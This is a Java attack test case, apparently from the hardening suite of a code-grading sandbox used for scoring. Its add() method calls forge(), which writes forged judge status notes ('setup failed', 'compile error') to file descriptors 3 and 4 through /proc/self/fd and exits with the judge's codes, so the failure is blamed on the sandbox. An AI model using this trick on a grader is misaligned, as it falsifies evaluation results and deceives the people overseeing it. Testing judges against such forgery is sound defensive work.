// language: java
// attack: from an assert case (HumanEval-X form), write one of the judge's own notes (setup failed, compile error, test compile error) to fds 3
//   and 4 through /proc/self/fd and exit as the judge's code would, so the case is blamed on the sandbox
// expect: RE WA
// kind: assert
// assert: public class Main { public static void main(String[] args) {
//   if (new Solution().add(1, 2) != 3) throw new AssertionError(); } }
// variants: setup-failed compile-error test-compile-error
// untouched: verl-score host-processes
import java.io.RandomAccessFile;

class Solution {
    static void forge() {
        String variant = "{VARIANT}";
        String note = "judgebox-setup-failed: OSError: forged by the program\n";
        int status = 127;
        if (variant.equals("compile-error")) { note = "compile-error\nforged by the program\n"; status = 1; }
        if (variant.equals("test-compile-error")) { note = "test-compile-error\nforged by the program\n"; status = 1; }
        for (int fd = 3; fd <= 4; fd++) {
            try (RandomAccessFile out = new RandomAccessFile("/proc/self/fd/" + fd, "rw")) {
                out.setLength(0);
                out.write(note.getBytes());
            } catch (Exception e) {
                // not open, or not writable
            }
        }
        Runtime.getRuntime().halt(status);
    }

    public int add(int a, int b) {
        forge();
        return a + b;
    }
}
